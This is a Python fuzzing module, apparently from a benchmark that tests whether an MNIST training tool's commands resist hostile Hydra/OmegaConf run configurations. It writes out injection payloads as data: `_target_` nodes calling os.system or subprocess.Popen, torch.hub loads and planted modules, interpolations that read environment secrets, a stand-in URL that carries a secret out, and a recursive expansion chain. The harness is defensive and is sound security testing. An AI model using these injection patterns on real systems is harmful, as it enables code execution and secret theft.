"""Part of benchmarks/fuzz.py: a stranger's run whose configuration tries to run, fetch, write, learn or grow.

A command may answer anything, but it may not run a program of the stranger, ask an address of theirs, or show the value
of a variable in its output or a file.
"""

import importlib
import json
import os
import random
import shutil
import sys
from pathlib import Path
from typing import Any

from omegaconf import OmegaConf

SECRET, CANARY = "hunter-0123456789", "was_run"
STRANGER = "stranger"  # Each hostile address and command contains it.
PROGRAM = f"from pathlib import Path\nPath('{CANARY}').touch()\nfrom mnist_lab.models import MLP\n"
PLACES = (
    *("model", "data", "data.source", "optimizer", "scheduler", "augmentation", "test_augmentation", "trainer"),
    *("callbacks.best", "callbacks.x", "logger.tensorboard", "dashboard", "model.x", "model._args_"),
    *("trainer.profiler", "hydra.callbacks.x", "hydra", "x", "tutorial", "data.source.classes", "callbacks", "logger"),
)
KEYS = (
    *("name", "seed", "threads", "folder", "runs_dir", "config_dir", "overrides", "label_smoothing", "init_from"),
    *("data.root", "data.source.path", "data.source.name", "data.source.mirrors", "data.source.package"),
    *("data.source.folders", "data.source.files", "data.source.md5", "data.source.split", "data.source.classes"),
    *("trainer.accelerator", "trainer.precision", "trainer.max_epochs"),
    *("optimizer.lr", "model._target_", "model._convert_", "tutorial.title", "tutorial.published", "x"),
)
VARIABLES = (
    *("${oc.env:SECRET}", "${ oc.env : SECRET }", "x${oc.env:SECRET}", "/${oc.env:SECRET}"),
    *("${oc.env:NONE,${oc.env:SECRET}}", "${oc.decode:${oc.env:SECRET}}", "\\${oc.env:SECRET}", "\\\\${oc.env:SECRET}"),
    *("${oc.${x}:SECRET}", "${hydra:runtime.cwd}", "${oc.create:{_target_:os.system,command:touch was_run}}"),
    *("${x}", "${seed}", "${"),
    *("${oc.dict.values:oc.env}", "http://stranger.invalid/${oc.env:SECRET}/", "~/${oc.env:SECRET}", "${oc.env:HOME}"),
)
requests: list[str] = []  # Hostile addresses and programs since the last check. The audit hook adds to it.


def _listen(event: str, arguments: tuple[Any, ...]) -> None:
    asks = event in ("urllib.Request", "subprocess.Popen", "os.system", "socket.getaddrinfo", "webbrowser.open")
    if asks and (SECRET in repr(arguments) or STRANGER in repr(arguments)):
        requests.append(f"{event} {arguments!r}"[:200])


sys.addaudithook(_listen)  # Python never removes a hook, so this is done once.


def hostile_config(chance: random.Random, run: Path) -> list[list[str]]:
    """Change a run's configuration and record, and add files to its folder, as a stranger could."""
    os.environ["SECRET"] = SECRET
    importlib.invalidate_caches()
    shutil.copytree(run, "runs/good")
    config: Any = OmegaConf.load(run / "config.yaml")
    for _ in range(chance.choice((1, 1, 2, 4))):
        node = chance.choice([_target(chance, run), _target(chance, run), {"x": [_target(chance, run)]}])
        places: list[tuple[str, Any]] = [
            (f"model.{chance.choice(('widths', 'blocks', 'num_classes'))}", [chance.choice((1, 10**4, 10**9))] * 3),
            (chance.choice(PLACES), node),
            (f"{chance.choice(PLACES)}._target_", node.get("_target_")),
            (chance.choice(KEYS), chance.choice(VARIABLES)),
            (chance.choice(KEYS), [chance.choice(VARIABLES)]),
            ("data.source.mirrors", [f"http://stranger.invalid/{chance.choice(VARIABLES)}/"]),
            ("data.source.package", "stranger==1"),
            (chance.choice(("data.root", "runs_dir", "callbacks.best.dirpath", "folder")), str(Path.cwd() / CANARY)),
        ]
        key, value = chance.choice(places)
        try:
            OmegaConf.update(config, key, value, merge=False, force_add=True)
        except Exception:  # OmegaConf itself refuses it.
            continue
    text = OmegaConf.to_yaml(config)
    if chance.random() < 0.2:
        size = chance.randint(2, 10)
        chain = [f"a0: {'x' * 100}", *(f"a{i}: {f'${{a{i - 1}}}' * size}" for i in range(1, chance.randint(2, 12)))]
        chance.shuffle(chain)
        text += "\n".join(chain) + "\n"
    (run / "config.yaml").write_text(text, encoding="utf-8")
    record = json.loads((run / "run.json").read_text(encoding="utf-8"))
    if chance.random() < 0.3:
        value = chance.choice(VARIABLES).replace("'", "")
        record["overrides"].append(f"++{chance.choice((*PLACES, *KEYS))}='{value}'")
    if chance.random() < 0.1:
        record["config_dir"] = str(run / "conf")
        (run / "conf" / "model").mkdir(parents=True)
        (run / "conf" / "model" / "mlp.yaml").write_text(json.dumps(_target(chance, run)))
    (run / "run.json").write_text(json.dumps(record), encoding="utf-8")
    longer = [
        *(["test", str(run)], ["report", str(run)], ["export", str(run), "--format", "state_dict"]),
        *(["ensemble", str(run), "runs/good"], ["predict", str(run), "x"], [f"resume={run}", "trainer.max_epochs=2"]),
    ]
    return [["ls", "--where", "optimizer.lr == 0.01"], ["compare", str(run), "runs/good"], *chance.sample(longer, 2)]


def _target(chance: random.Random, run: Path) -> dict[str, Any]:
    """Return a node that would run a program, and write the module that it names."""
    folders = (run, run / "checkpoints", run / "pkg" / "deep", *map(Path, ("runs", "runs/other", "runs/good")))
    folder = chance.choice(folders)
    name = f"m{chance.randrange(10**9)}"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{name}.py").write_text(PROGRAM, encoding="utf-8")
    touch = f"touch {CANARY} {STRANGER}"
    return chance.choice(
        [
            {"_target_": ".".join([*folder.parts, name, "MLP"])},
            {"_target_": ".".join([*folder.parts, name, "MLP"]), "_partial_": True},
            {"_target_": "os.system", "command": touch},
            {"_target_": "subprocess.Popen", "args": touch.split()},
            {"_target_": "hydra.utils.instantiate", "config": {"_target_": "os.system", "command": touch}},
            {"_target_": "hydra.utils.get_method", "path": ".".join([*folder.parts, name, "MLP"])},
            {"_target_": "antigravity.Net"},
            {"_target_": "lightning.pytorch.loggers.CSVLogger", "save_dir": CANARY},
            {"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "dirpath": CANARY},
            {"_target_": "torch.hub.load", "repo_or_dir": STRANGER, "model": "x"},
        ]
    )


def broken_promise(printed: str) -> str | None:
    """Return what a stranger has reached by a command with this output, or None."""
    if "SECRET" not in os.environ:  # Only `hostile_config` sets it.
        return None
    asked = "; ".join(requests)
    made = [path for path in Path().rglob("*") if path.name == CANARY or SECRET in path.name]
    requests.clear()
    if asked or made:
        return f"reached {asked} {made}"
    if SECRET in printed:
        return f"shows a variable's value: {printed[:300]!r}"
    texts = [path for path in Path().rglob("*") if path.suffix in (".json", ".yaml", ".html", ".md", ".csv", ".log")]
    leaks = [path for path in texts if path.is_file() and SECRET.encode() in path.read_bytes()]
    return f"writes a variable's value into {leaks}" if leaks else None
